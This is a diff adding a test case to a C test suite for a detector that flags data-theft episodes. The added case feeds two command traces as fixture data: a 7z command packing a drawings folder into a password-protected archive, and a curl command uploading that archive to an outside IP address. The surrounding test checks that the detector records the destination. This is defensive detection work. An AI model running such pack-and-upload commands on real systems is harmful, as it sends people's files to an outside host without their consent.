@@ -109,6 +109,13 @@ TEST(theft_joins_a_packing_command_with_a_sending_one)
 	conclude(&b);
 	assert_string_equal(rules(&b), "kanshiki.packing medium,kanshiki.theft-episode high");
 	case_close(b.file);
+	b = begin("upload");
+	add_trace(&b, command_trace("7z a -pX C:\\perflogs\\x.7z D:\\drawings", START));
+	add_trace(&b, command_trace("curl -T x.7z https://203.0.113.88/u/", START + HOUR));
+	conclude(&b);
+	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.to') FROM finding_view "
+				    "WHERE rule LIKE '%episode%'"), "203.0.113.88");
+	case_close(b.file);
 }
 
 TEST(theft_leaves_daily_work_alone)
